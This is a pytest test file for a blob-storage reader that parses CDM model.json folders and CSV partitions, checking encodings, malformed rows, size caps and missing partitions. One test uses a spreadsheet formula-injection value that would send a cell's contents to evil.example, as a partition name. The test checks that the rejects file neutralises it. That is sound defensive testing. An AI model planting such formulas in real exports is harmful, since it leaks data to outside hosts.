"""The blob reader on Azurite: the project's CDM folders (tests/fixtures/cdm; the official samples
too where present), each uploaded as it is, and broken ones."""

from __future__ import annotations

import csv
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from azure.storage.blob import BlobServiceClient, ContainerClient
from helpers import (
    COLUMNS,
    FOLDER,
    LIST_ID,
    SEGMENT,
    CdmFolder,
    definition,
    official_cdm,
    person,
    project_cdm,
    rejects_rows,
    run,
    sandbox_get,
    write,
)

from shared.errors import ExportError
from shared.source.blob import MAX_METADATA_BYTES, BlobSource
from tools.sample_export import csv_bytes, write_export


def upload_folder(container: ContainerClient, local: Path, prefix: str) -> None:
    for path in sorted(local.rglob("*")):
        if path.is_file() and path.name != "SOURCE.txt":
            container.upload_blob(f"{prefix}/{path.relative_to(local).as_posix()}", path.read_bytes(), overwrite=True)


def read_all(source: BlobSource, folder: str, segment: str) -> list[tuple[str, int, list[str]]]:
    opened = source.open_segment(folder, segment)
    return list(source.rows(opened))


def expected_rows(path: Path, header: bool = False) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = [r for r in csv.reader(handle) if r]
    return rows[1:] if header else rows


@dataclass(frozen=True)
class HeaderlessFolder:
    folder: CdmFolder
    first: str  # an entity in <first>.csv at the folder root, its row 1 data (no header row)
    first_value: str
    width: int
    multiline: str  # an entity at the folder root with quoted fields holding CR/LF
    multiline_width: int
    many: str  # an entity in many partitions under <many>/
    partitions: int
    restarts: tuple[str, int]  # an entity and its number of partitions (record numbers restart in each)
    trailing: str  # an entity with values ending in spaces


@pytest.mark.parametrize(
    "sample",
    [
        pytest.param(
            HeaderlessFolder(
                project_cdm("model-json-headerless"),
                "Customers",
                "C0001",
                8,
                "Customers",
                8,
                "Visits",
                3,
                ("Visits", 3),
                "Customers",
            ),
            id="project",
        ),
        pytest.param(
            HeaderlessFolder(
                official_cdm("powerbi-dataflow-model-json"),
                "Customers",
                "ALFKI",
                11,
                "Employees",
                17,
                "Actions",
                21,
                ("Orders", 6),
                "Orders",
            ),
            id="official",
        ),
    ],
)
def test_headerless_model_json_folder_reads_every_partition(source_container: ContainerClient, sample: HeaderlessFolder) -> None:
    local = sample.folder()
    upload_folder(source_container, local, "pbi")
    source = BlobSource(source_container)

    first = read_all(source, "pbi", sample.first)
    assert [values for _, _, values in first] == expected_rows(local / f"{sample.first}.csv")
    assert first[0][2][0] == sample.first_value and len(first[0][2]) == sample.width  # headerless: row 1 is data

    multiline = read_all(source, "pbi", sample.multiline)
    # Quoted fields with embedded CR/LF stay one field; rows keep their width.
    assert len(multiline) == len(expected_rows(local / f"{sample.multiline}.csv"))
    assert all(len(values) == sample.multiline_width for _, _, values in multiline)
    assert any("\n" in v for _, _, values in multiline for v in values)

    many = source.open_segment("pbi", sample.many)
    assert len(many.partitions) == sample.partitions
    assert all(p.blob_name.startswith(f"pbi/{sample.many}/") for p in many.partitions)
    total = sum(len(expected_rows(p)) for p in (local / sample.many).glob("*.csv"))
    assert sum(1 for _ in source.rows(many)) == total
    # Record numbers restart in each partition.
    entity, partitions = sample.restarts
    assert sum(1 for _, number, _ in read_all(source, "pbi", entity) if number == 1) == partitions
    # Values are read as written: trailing spaces are data, not trimmed here.
    assert any(v != v.rstrip() for _, _, values in read_all(source, "pbi", sample.trailing) for v in values)


@pytest.mark.parametrize(
    "folder",
    [
        pytest.param(project_cdm("manifest-header-only"), id="project"),
        pytest.param(official_cdm("cdm-sdk-manifest-headers"), id="official"),
    ],
)
def test_manifest_folder_with_header_only_partitions(source_container: ContainerClient, folder: CdmFolder) -> None:
    local = folder()
    upload_folder(source_container, local, "CustomerInsights_x/Export")
    source = BlobSource(source_container)
    for entity in json.loads((local / "default.manifest.cdm.json").read_text())["entities"]:
        opened = source.open_segment("CustomerInsights_x/Export", entity["entityName"])
        assert opened.metadata_blob.endswith("default.manifest.cdm.json")
        assert len(opened.partitions) == 1 and opened.partitions[0].fmt.header
        assert list(source.rows(opened)) == []  # only a header row in these partitions
    contact = source.open_segment("CustomerInsights_x/Export", "Contact")
    assert {"firstName", "lastName", "EMailAddress1", "address1City"} <= set(contact.columns)


@pytest.mark.parametrize(
    "folder",
    [
        pytest.param(project_cdm("model-json-csv-traits"), id="project-csv-traits"),
        pytest.param(project_cdm("model-json-csv-settings"), id="project-csv-settings"),
        pytest.param(project_cdm("model-json-bom-windows-path"), id="project-bom-windows-path"),
        *[
            pytest.param(official_cdm("cdm-sdk-modeljson-edgecases", sample, "Input"), id=f"official-{sample}")
            for sample in (
                "TestLoadingCsvPartitionTraits",
                "TestLoadingCsvPartitionTraitsFromFileFormatSettings",
                "TestModelJsonDataPartitionLocationConsistency",
            )
        ],
    ],
)
def test_metadata_only_samples_are_refused_before_any_row(source_container: ContainerClient, folder: CdmFolder) -> None:
    local = folder()
    upload_folder(source_container, local, "edge")
    entity = json.loads((local / "model.json").read_text(encoding="utf-8-sig"))["entities"][0]["name"]
    with pytest.raises(ExportError) as caught:
        BlobSource(source_container).open_segment("edge", entity)
    # No attributes, or a partition whose file is not in storage: either way, nothing is read.
    assert caught.value.code == "source_invalid"
    assert "no attributes" in caught.value.message or "not in storage" in caught.value.message


def test_missing_metadata_and_segment(source_container: ContainerClient) -> None:
    source = BlobSource(source_container)
    with pytest.raises(ExportError) as caught:
        source.open_segment("nowhere", "Seg")
    assert caught.value.code == "source_not_found" and "model.json" in caught.value.message
    source_container.upload_blob("f/model.json", b'{"entities": [{"name": "A", "attributes": [{"name": "x"}]}]}')
    with pytest.raises(ExportError) as caught:
        source.open_segment("f", "Seg")
    assert caught.value.code == "source_not_found" and "(it has: A)" in caught.value.message
    source_container.upload_blob("g/model.json", b"\xef\xbb\xbf{ broken")
    with pytest.raises(ExportError) as caught:
        source.open_segment("g", "Seg")
    assert caught.value.code == "source_invalid"


def test_a_listed_partition_missing_from_storage_refuses_the_snapshot(source_container: ContainerClient) -> None:
    model = {
        "entities": [
            {
                "name": "Seg",
                "attributes": [{"name": "EMail"}],
                "partitions": [
                    {"name": "p1", "location": "https://other.blob.core.windows.net:443/c/f/Seg/p1.csv?snapshot=x"},
                    {"name": "p2", "location": "https://other.blob.core.windows.net:443/c/f/Seg/p2.csv?snapshot=x"},
                ],
            }
        ]
    }
    source_container.upload_blob("f/model.json", json.dumps(model).encode())
    source_container.upload_blob("f/Seg/p1.csv", b"a@example.com\n")
    with pytest.raises(ExportError) as caught:
        BlobSource(source_container).open_segment("f", "Seg")
    assert caught.value.code == "source_invalid" and "'p2'" in caught.value.message


def test_partition_encodings_bom_and_invalid_bytes(source_container: ContainerClient) -> None:
    model = {
        "entities": [
            {
                "name": "Seg",
                "attributes": [{"name": "EMail"}, {"name": "City"}],
                "partitions": [
                    {"name": "p1", "location": "f/Seg/p1.csv"},
                    {
                        "name": "p2",
                        "location": "f/Seg/p2.csv",
                        "fileFormatSettings": {"$type": "CsvFormatSettings", "encoding": "ISO-8859-1", "delimiter": ";"},
                    },
                ],
            }
        ]
    }
    source_container.upload_blob("f/model.json", json.dumps(model).encode())
    source_container.upload_blob(
        "f/Seg/p1.csv", "\ufeffa@example.com,Malmö\r\nb@example.com,Bad \xff\r\n".encode().replace(b"Bad \xc3\xbf", b"Bad \xff")
    )
    source_container.upload_blob("f/Seg/p2.csv", "c@example.com;Malmö\n".encode("latin-1"))
    rows = read_all(BlobSource(source_container), "f", "Seg")
    assert rows[0] == ("p1", 1, ["a@example.com", "Malmö"])  # the BOM is not part of the first value
    assert rows[1][2][1] == "Bad \udcff"  # kept as a marker so mapping can reject just this row
    assert rows[2] == ("p2", 1, ["c@example.com", "Malmö"])


def one_partition_model(name: str = "p1", **settings: str) -> bytes:
    partition: dict[str, object] = {"name": name, "location": "f/Seg/p1.csv"}
    if settings:
        partition["fileFormatSettings"] = {"$type": "CsvFormatSettings", **settings}
    return json.dumps(
        {"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}, {"name": "City"}], "partitions": [partition]}]}
    ).encode()


def test_an_unterminated_quote_refuses_the_snapshot_naming_partition_and_line(source_container: ContainerClient) -> None:
    source_container.upload_blob("f/model.json", one_partition_model())
    rows = [f"x{i}@example.com,Lisbon\r\n" for i in range(20)]
    rows[17] = 'x17@example.com,"Bob\r\n'
    source_container.upload_blob("f/Seg/p1.csv", "".join(rows).encode())
    source = BlobSource(source_container)
    with pytest.raises(ExportError) as caught:
        list(source.rows(source.open_segment("f", "Seg")))
    assert caught.value.code == "source_invalid"
    assert "partition 'p1'" in caught.value.message and "line 18" in caught.value.message


def test_an_oversized_line_is_one_row_the_rest_is_read(source_container: ContainerClient) -> None:
    source_container.upload_blob("f/model.json", one_partition_model())
    data = b"a@example.com,A\r\n" + b"z" * (3 * 1024 * 1024) + b",Z\r\nb@example.com,B\r\n"
    source_container.upload_blob("f/Seg/p1.csv", data)
    rows = read_all(BlobSource(source_container), "f", "Seg")
    assert rows == [("p1", 1, ["a@example.com", "A"]), ("p1", 2, []), ("p1", 3, ["b@example.com", "B"])]


def test_metadata_over_the_cap_is_refused_before_parsing(source_container: ContainerClient) -> None:
    padding = b" " * MAX_METADATA_BYTES  # still valid JSON: whitespace, then the model
    source_container.upload_blob("f/model.json", padding + one_partition_model())
    source_container.upload_blob("f/Seg/p1.csv", b"a@example.com,A\r\n")
    with pytest.raises(ExportError) as caught:
        BlobSource(source_container).open_segment("f", "Seg")
    assert caught.value.code == "source_invalid" and "model.json" in caught.value.message


def test_the_same_blob_listed_twice_is_refused(source_container: ContainerClient) -> None:
    partitions = [
        {"name": f"p{n}", "location": location}
        for n, location in enumerate(["f/Seg/p1.csv", "https://acct.blob.core.windows.net:443/c/f/Seg/p1.csv?snapshot=1"])
    ]
    model = {"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}], "partitions": partitions}]}
    source_container.upload_blob("f/model.json", json.dumps(model).encode())
    source_container.upload_blob("f/Seg/p1.csv", b"a@example.com\r\n")
    with pytest.raises(ExportError) as caught:
        BlobSource(source_container).open_segment("f", "Seg")
    assert caught.value.code == "source_invalid" and "f/Seg/p1.csv" in caught.value.message


def test_utf16_partitions_read_and_an_undecodable_one_is_refused(source_container: ContainerClient) -> None:
    source_container.upload_blob("f/model.json", one_partition_model(encoding="UTF-16"))
    source_container.upload_blob("f/Seg/p1.csv", "a@example.com,Malmö\r\n".encode("utf-16"))
    assert read_all(BlobSource(source_container), "f", "Seg") == [("p1", 1, ["a@example.com", "Malmö"])]
    # A lone surrogate code unit (0xD800) cannot be kept as a marker: the partition is refused, not a crash.
    source_container.upload_blob(
        "f/Seg/p1.csv", "a@example.com,X\r\n".encode("utf-16-le").replace(b"X\x00", b"\x00\xd8"), overwrite=True
    )
    source_container.upload_blob("f/model.json", one_partition_model(encoding="UTF-16LE"), overwrite=True)
    with pytest.raises(ExportError) as caught:
        read_all(BlobSource(source_container), "f", "Seg")
    assert caught.value.code == "source_invalid" and "partition 'p1'" in caught.value.message


def test_utf7_partitions_are_refused_before_any_row(source_container: ContainerClient) -> None:
    source_container.upload_blob("f/model.json", one_partition_model(encoding="utf-7"))
    source_container.upload_blob("f/Seg/p1.csv", b"a@example.com,+2ADYAA-\r\n")  # a lone surrogate in UTF-7
    with pytest.raises(ExportError) as caught:
        BlobSource(source_container).open_segment("f", "Seg")
    assert caught.value.code == "source_invalid" and "utf-7" in caught.value.message


def test_a_malformed_partition_leaves_a_mirror_list_alone(
    app_factory: Any, source_container: ContainerClient, sandbox: Any
) -> None:
    # The attack review's case: the same snapshot again but for one unterminated quote. Before, the
    # quote swallowed the rest of the partition and the mirror run unlinked everyone after it.
    app = app_factory([definition(sync_mode="mirror")])
    people = [person(i) for i in range(1, 41)]
    write(source_container, [people])
    assert run(app).body["counts"]["sent"] == 40
    broken = csv_bytes(people).replace(b"person37@example.com,Lisbon", b'person37@example.com,"Lisbon')
    write_export(source_container, FOLDER, SEGMENT, [broken], COLUMNS)
    second = run(app)
    assert second.status == 422 and second.body["error"]["code"] == "source_invalid"
    assert "line 37" in second.body["error"]["message"]
    members = {c["email"] for c in sandbox_get(sandbox, "contacts")["contacts"] if LIST_ID in c["list_ids"]}
    assert members == {f"person{i}@example.com" for i in range(1, 41)}


def test_rejects_csv_cells_cannot_run_as_formulas(
    app_factory: Any, source_container: ContainerClient, blob_service: BlobServiceClient, state_container_name: str
) -> None:
    app = app_factory([definition(mapping={"email": "EMail"})])
    name = '=HYPERLINK("http://evil.example/?"&C2,"Click")'
    model = {
        "entities": [{"name": SEGMENT, "attributes": [{"name": "EMail"}], "partitions": [{"name": name, "location": "p.csv"}]}]
    }
    source_container.upload_blob(f"{FOLDER}/model.json", json.dumps(model).encode())
    source_container.upload_blob(f"{FOLDER}/p.csv", b"a@example.com\r\n-not-an-email\r\n@x\r\n")
    report = run(app).body
    assert report["counts"]["sent"] == 1
    lines = rejects_rows(blob_service, state_container_name, report["rejects_blob"])
    assert [line["partition"] for line in lines] == ["'" + name] * 2
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for value in line.values())


def test_a_partition_that_changes_while_it_is_read_again_is_refused(source_container: ContainerClient) -> None:
    # The oversized line makes the reader go back to the partition's start (see csv_rows.py); by
    # then the blob was replaced: its new rows must not be read as the rest of the old ones.
    source_container.upload_blob("f/model.json", one_partition_model())
    data = b"a@example.com,A\r\n" + b"z" * (3 * 1024 * 1024) + b",Z\r\nb@example.com,B\r\n"
    source_container.upload_blob("f/Seg/p1.csv", data)
    source = BlobSource(source_container)
    rows = source.rows(source.open_segment("f", "Seg"))
    assert next(rows) == ("p1", 1, ["a@example.com", "A"])
    source_container.upload_blob("f/Seg/p1.csv", b"a@example.com,A\r\nc@example.com,C\r\n", overwrite=True)
    with pytest.raises(ExportError) as caught:
        list(rows)
    assert caught.value.code == "source_invalid" and "changed while it was being read" in caught.value.message
